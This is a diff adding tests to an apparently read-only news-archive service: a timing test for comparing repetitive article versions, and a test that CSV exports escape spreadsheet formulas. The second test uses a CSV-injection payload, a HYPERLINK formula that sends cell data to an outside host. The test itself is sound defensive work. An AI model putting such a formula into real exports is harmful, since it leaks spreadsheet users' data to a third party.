@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import gc
+import io
 import os
 import re
 import shutil
@@ -12,6 +14,7 @@ import socket
 import sqlite3
 import subprocess
 import sys
+import time
 from collections.abc import Callable, Iterator
 from contextlib import closing, contextmanager
 from dataclasses import replace
@@ -461,6 +464,41 @@ def test_a_diff_leaves_out_what_stayed() -> None:
 
 
 # --- that it only reads --------------------------------------------------------------------------------------
+
+
+def test_versions_that_repeat_themselves_do_not_hold_a_page_up() -> None:
+    """A comparison is cubic in paragraphs that come again and again; those of ordinary articles take no time."""
+    before = {"title": "Lịch", "lead": None, "paragraphs": ["Sáng.", "Chiều.", "Tối."] * 2000}
+    began = time.monotonic()
+    change = change_of(before, before | {"paragraphs": ["Chiều.", "Sáng.", "Đêm."] * 2000}, ["paragraphs"])
+    assert [kind for kind, _ in change.lines] == ["skip"]
+    assert "too much to compare" in change.lines[0][1]
+    many = [f"Tổ {number} họp bàn." for number in range(3000)]
+    change = change_of({**before, "paragraphs": many}, {**before, "paragraphs": [*many, "Xong."]}, ["paragraphs"])
+    assert [kind for kind, _ in change.lines][-1] == "new"
+    assert time.monotonic() - began < 10
+
+
+def test_no_cell_of_a_table_is_a_formula(store: Store, tmp_path: Path) -> None:
+    harm = '=HYPERLINK("http://a.vn/?"&A1)'
+    write(
+        store, made("hoasua:1", harm, harm, section="+84", published="2024-01-02"), made("hoasua:2", "- Tổ 1", "Tin.")
+    )
+    site = serve.application(built(store, tmp_path / "copy.db"))
+
+    def get(path: str) -> Any:
+        return asyncio.run(site.client.get(path))
+
+    for path in ("/wardnews/articles.csv?_size=max", "/wardnews/newest.csv", "/wardnews/search.csv?q=hyperlink"):
+        answer = get(path)
+        assert answer.headers["content-type"].startswith("text/")
+        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+        assert any(cell == f"'{harm}" for row in rows for cell in row)
+    assert get("/wardnews/nowhere.csv").status_code == 404
+    site.executor.shutdown()
+    for database in site.databases.values():
+        database.close()
 
 
 def test_nothing_can_be_written_through_it(shown: Any, get: Callable[..., Any], tmp_path: Path) -> None:
